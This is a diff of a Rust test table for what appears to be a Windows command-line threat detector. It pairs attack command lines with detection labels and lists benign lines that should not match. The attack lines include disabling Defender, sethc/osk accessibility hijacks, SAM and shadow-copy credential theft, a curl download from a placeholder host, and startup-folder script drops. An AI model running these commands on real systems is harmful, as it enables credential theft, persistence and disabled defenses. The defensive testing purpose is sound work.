@@ -102,9 +102,9 @@ const SHELL: &[(&str, &[&str])] = &[
     (r"cmd /c diskshadow.exe /s shadow.txt", &["ntds-dump"]),
     (
         r"cmd /c sc config WinDefend start= disabled",
-        &["sc-service"],
+        &["security-service-stop"],
     ),
-    (r"cmd /c sc \\fs02\ stop sense", &["sc-service"]),
+    (r"cmd /c sc \\fs02\ stop sense", &["security-service-stop"]),
     (
         r"cmd /c netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.1",
         &["netsh-tamper"],
@@ -142,6 +142,73 @@ const SHELL: &[(&str, &[&str])] = &[
     (
         r"cmd /c C:\Users\u\AppData\Local\Temp\tcm.tmp -decode c:\file.exe file.txt",
         &["certutil-renamed"],
+    ),
+    // more behaviour classes
+    (
+        r"cmd /c copy %SystemRoot%\System32\cmd.exe %SystemRoot%\Temp\lsass.exe & %SystemRoot%\Temp\lsass.exe /B",
+        &["binary-copy"],
+    ),
+    (
+        r"cmd /c copy C:\Windows\system32\certutil.exe C:\Users\u\AppData\Local\Temp\tcm.tmp",
+        &["binary-copy"],
+    ),
+    (
+        r"cmd /c curl -k https://x/a.dll -o c:\users\public\music\a.dll",
+        &["curl-download"],
+    ),
+    (
+        r"cmd /c net use \\Target\C$ P@ssw0rd1 /u:DOMAIN\Administrator",
+        &["admin-share-logon"],
+    ),
+    (
+        r"cmd /c copy C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe",
+        &["binary-copy", "accessibility-hijack"],
+    ),
+    (
+        r"cmd /c mklink C:\Windows\System32\osk.exe C:\Windows\System32\cmd.exe",
+        &["accessibility-hijack"],
+    ),
+    (
+        r"cmd /c conhost.exe --headless powershell calc",
+        &["conhost-proxy"],
+    ),
+    (
+        r#"cmd /r cmd<"C:\x\t1059.003_cmd.cmd""#,
+        &["cmd-stdin-script"],
+    ),
+    (
+        r#"cmd /c cd /d C:\x & echo Set o = CreateObject("WScript.Shell") > AtomicTest.vbs & AtomicTest.vbs"#,
+        &["script-drop"],
+    ),
+    (
+        r#"cmd /c echo start calc > "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\b.bat""#,
+        &["script-drop"],
+    ),
+    (
+        r#"cmd /c copy C:\x\b.bat "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\b.bat""#,
+        &["script-drop"],
+    ),
+    (
+        r"cmd /c type C:\temp\evil.exe > C:\temp\file.txt:evil.exe",
+        &["ads-write"],
+    ),
+    (r"cmd /c net stop WinDefend", &["security-service-stop"]),
+    (r"cmd /c vssadmin.exe create shadow /for=C:", &["ntds-dump"]),
+    (
+        r"cmd /c wmic shadowcopy call create Volume=C:\",
+        &["ntds-dump"],
+    ),
+    (
+        r#"cmd /c net group "domain admins" /domain"#,
+        &["net-admin-group"],
+    ),
+    (
+        r"cmd /c esentutl.exe /y /vss %SystemRoot%/system32/config/SAM /d %temp%/SAM",
+        &["credential-copy"],
+    ),
+    (
+        r"cmd /c InfDefaultInstall.exe C:\x\Infdefaultinstall.inf",
+        &["cmstp-inf"],
     ),
     // LOLBins written in the shell line
     (
@@ -283,6 +350,26 @@ const SHELL: &[(&str, &[&str])] = &[
         &[],
     ),
     (r"cmd /c sc query WinDefend", &[]),
+    (r"cmd /c copy C:\Windows\System32\cmd.exe C:\tools\", &[]),
+    (
+        r"cmd /c copy C:\Windows\System32\drivers\etc\hosts C:\backup\hosts.txt",
+        &[],
+    ),
+    (
+        r"cmd /c curl -o C:\build\report.txt https://ci.example.com/report.txt",
+        &[],
+    ),
+    (r"cmd /c curl https://example.com/api/status", &[]),
+    (
+        r"cmd /c net use Z: \\fileserver\projects /persistent:yes",
+        &[],
+    ),
+    (r"cmd /c net stop Spooler", &[]),
+    (r"cmd /c echo {} > C:\build\out.json", &[]),
+    (r"cmd /c echo done > C:\logs\run.log 2>&1", &[]),
+    (r"cmd /c vssadmin list shadowstorage", &[]),
+    (r#"cmd /c "echo ATOMIC > %%windir%%\cert.key""#, &[]),
+    (r#"cmd /c net group "Domain Users" /domain"#, &[]),
     (
         r#"cmd /c forfiles /p C:\logs /c "C:\Windows\System32\cmd.exe /c del @path""#,
         &[],
